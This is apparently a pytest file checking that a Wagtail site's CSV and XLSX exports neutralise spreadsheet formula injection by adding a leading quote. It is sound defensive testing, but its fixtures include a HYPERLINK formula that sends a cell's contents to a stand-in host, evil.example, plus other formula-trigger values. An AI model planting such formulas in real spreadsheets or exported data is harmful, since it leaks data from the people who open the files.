import csv
import io
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from accounts.spreadsheets import FORMULA_TRIGGERS, FormulaSafeExportMixin, append_row, csv_row, neutralise

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"点此查看")'


@pytest.mark.parametrize("start", FORMULA_TRIGGERS)
def test_a_value_starting_a_formula_gets_a_leading_quote(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["赵工程", "1+1", "a=b", "'quoted", ""])
def test_other_text_is_kept_as_it_is(text):
    assert neutralise(text) == text


def test_xlsx_rows_hold_text_cells_that_are_never_formulas():
    workbook = Workbook()
    append_row(workbook.active, ["=1+1", "-2", "普通\x0b文本", 7, None])
    buffer = io.BytesIO()
    workbook.save(buffer)

    cells = next(load_workbook(buffer).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells[:3]] == [("'=1+1", "s"), ("'-2", "s"), ("普通文本", "s")]
    assert (cells[3].value, cells[3].data_type) == (7, "n")


def test_csv_rows_are_neutralised_text():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(['=HYPERLINK("https://evil.example/")', "@A1", 3, None, "赵工程"]))

    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        '\'=HYPERLINK("https://evil.example/")',
        "'@A1",
        "3",
        "",
        "赵工程",
    ]


class ApplicantExport(FormulaSafeExportMixin, SpreadsheetExportMixin):
    list_export = ["real_name", "employer", "declarations"]


APPLICANTS = [SimpleNamespace(real_name=HYPERLINK, employer="@SUM(1+1)", declarations=2)]


def test_wagtail_list_exports_write_neutralised_csv():
    rows = list(csv.reader(io.StringIO(b"".join(ApplicantExport().stream_csv(APPLICANTS)).decode())))

    assert rows[1] == [f"'{HYPERLINK}", "'@SUM(1+1)", "2"]


def test_wagtail_list_exports_write_xlsx_text_cells():
    buffer = io.BytesIO()
    ApplicantExport().write_xlsx(APPLICANTS, buffer)

    cells = list(load_workbook(buffer).active.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in cells] == [(f"'{HYPERLINK}", "s"), ("'@SUM(1+1)", "s"), (2, "n")]
